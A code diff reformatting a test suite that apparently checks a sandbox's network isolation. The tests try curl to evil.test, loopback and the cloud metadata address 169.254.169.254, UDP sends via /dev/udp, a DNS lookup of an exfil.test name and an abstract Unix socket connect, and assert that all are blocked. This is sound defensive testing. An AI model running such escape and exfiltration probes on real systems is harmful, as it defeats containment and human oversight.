@@ -28,11 +28,15 @@ describe('network', () => {
     const options = ['--allow', 'good.test:80', '--route', `good.test:80=127.0.0.1:${witness.port}`]
     const good = await inCell(world, 'env -i curl -sS http://good.test/x', options)
     expect(good.stdout).toBe('hello good.test /x')
-    const bad = await inCell(world, `
+    const bad = await inCell(
+      world,
+      `
       env -i curl -sS -m 5 http://evil.test/ 2>&1; echo "code $?"
       curl -sS -m 5 http://127.0.0.1:${witness.port}/ 2>&1; echo "code $?"
       curl -sS -m 5 'http://[::1]:${witness.port}/' 2>&1; echo "code $?"
-      curl -sS -m 5 http://192.0.2.1:${witness.port}/ 2>&1; echo "code $?"`, options)
+      curl -sS -m 5 http://192.0.2.1:${witness.port}/ 2>&1; echo "code $?"`,
+      options,
+    )
     expect(bad.stdout.match(/code \d+/g)?.every((line) => line !== 'code 0')).toBe(true)
     expect(witness.hits()).toBe(1)
   })
@@ -40,7 +44,10 @@ describe('network', () => {
   it('has no way out without a rule', async () => {
     const world = makeWorld()
     const witness = await httpWitness()
-    const { stdout } = await inCell(world, `for h in good.test localhost 127.0.0.1 169.254.169.254; do curl -s -m 5 "http://$h:${witness.port}/" && echo LEAK; done; curl -s -m 5 https://good.test/ && echo LEAK; echo end`)
+    const { stdout } = await inCell(
+      world,
+      `for h in good.test localhost 127.0.0.1 169.254.169.254; do curl -s -m 5 "http://$h:${witness.port}/" && echo LEAK; done; curl -s -m 5 https://good.test/ && echo LEAK; echo end`,
+    )
     expect(stdout).toBe('end\n')
     expect(witness.hits()).toBe(0)
   })
@@ -64,7 +71,12 @@ describe('network', () => {
       const control = dgram.createSocket('udp4')
       control.send('control', port, '127.0.0.1', () => control.close())
     })
-    await inCell(world, `for a in 127.0.0.1 192.0.2.1 8.8.8.8; do for p in ${port} 53 123 443; do echo x > /dev/udp/$a/$p; done; done 2>/dev/null; getent hosts nonce.exfil.test; true`.replace(/^/, 'exec bash -c \'').replace(/$/, "'"))
+    await inCell(
+      world,
+      `for a in 127.0.0.1 192.0.2.1 8.8.8.8; do for p in ${port} 53 123 443; do echo x > /dev/udp/$a/$p; done; done 2>/dev/null; getent hosts nonce.exfil.test; true`
+        .replace(/^/, "exec bash -c '")
+        .replace(/$/, "'"),
+    )
     expect(datagrams).toBe(1)
   })
 
@@ -78,7 +90,13 @@ describe('network', () => {
     })
     await new Promise<void>((resolve) => void server.listen({ path: `\0${name}` }, resolve))
     onTestFinished(() => void server.close())
-    await new Promise<void>((resolve) => void net.connect({ path: `\0${name}` }).on('close', () => resolve()).on('error', () => undefined))
+    await new Promise<void>(
+      (resolve) =>
+        void net
+          .connect({ path: `\0${name}` })
+          .on('close', () => resolve())
+          .on('error', () => undefined),
+    )
     const script = `perl -MSocket -e 'socket(S,AF_UNIX,SOCK_STREAM,0); print connect(S, pack("Sa*", AF_UNIX, "\\0${name}")) ? "LEAK" : "refused: $!"'`
     const { stdout } = await inCell(world, script)
     expect(stdout).toMatch(/^refused/)
